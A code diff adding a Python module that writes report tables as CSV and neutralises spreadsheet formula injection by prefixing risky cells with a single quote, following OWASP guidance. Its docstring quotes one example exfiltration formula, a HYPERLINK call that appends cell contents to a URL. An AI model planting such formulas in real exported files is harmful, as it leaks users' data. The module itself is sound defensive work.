@@ -1,0 +1,36 @@
+"""CSV output a clinician can open in Excel without running anything in it.
+
+A cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
+spreadsheet programs as a formula (CSV or formula injection: a group name
+``=HYPERLINK("http://...?d="&A1,"x")`` would send the sheet's contents away). Following
+OWASP's CSV-injection guidance, such a cell is written with a leading single quote, which
+the spreadsheet shows as text; a cell that is a plain number (``-0.25``, ``+3``, ``-1e-3``)
+is left as it is, so negative numbers stay numeric, and so is a lone ``-`` or ``+`` (a
+placeholder no spreadsheet evaluates).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+
+_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+
+
+def neutralise(cell: object) -> str:
+    """``cell`` as CSV text that no spreadsheet evaluates (OWASP: prefix a single quote)."""
+    text = "" if cell is None else str(cell)
+    if text.startswith(_TRIGGERS) and text not in ("-", "+") and not _NUMBER.fullmatch(text):
+        return "'" + text
+    return text
+
+
+def table_csv(table) -> str:
+    """A report table (header row, then its body) as CSV, every cell neutralised."""
+    buf = io.StringIO()
+    writer = csv.writer(buf, lineterminator="\n")
+    for row in ([table.stub or "", *table.columns], *table.body()):
+        writer.writerow([neutralise(c) for c in row])
+    return buf.getvalue()
